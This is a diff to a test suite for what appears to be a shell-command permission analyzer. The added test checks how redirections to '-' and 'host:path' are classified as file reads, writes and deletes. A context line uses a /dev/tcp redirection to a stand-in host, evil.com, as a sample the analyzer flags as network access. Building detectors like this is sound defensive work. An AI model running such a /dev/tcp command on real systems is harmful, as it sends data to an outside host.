@@ -79,6 +79,15 @@ describe('operations', () => {
     expect(ops(await check('echo x >/dev/tcp/evil.com/80'))).toEqual(['Network evil.com']);
     expect((await check('ls 2>/dev/null')).level).toBe('allow');
   });
+  it('reads a redirection to `-` or `host:path` as the local file it opens, not stdout or a remote', async () => {
+    // `-` is stdin or stdout only as a program's operand; `>-` and `3<>-` create a file named `-`
+    for (const line of ['echo x >-', 'exec 3<>-', 'exec 3>-', 'cat f >> -'])
+      expect(ops(await check(line)), line).toEqual(expect.arrayContaining(['Write ./-']));
+    expect(ops(await check('echo x > a:b'))).toEqual(['Write ./a:b']);
+    expect(ops(await check('wc -l < -'))).toEqual(['Read ./-']);
+    expect(ops(await check('cat - f'))).toEqual(['Read ./f']);
+    expect(ops(await check('rm -- -'))).toEqual(['Delete ./-']);
+  });
   it('is three-valued: read-only, mutating, unknown', async () => {
     expect((await check('grep -r foo src')).level).toBe('allow');
     expect(rules(await check('mkdir x'))).toContain('write');
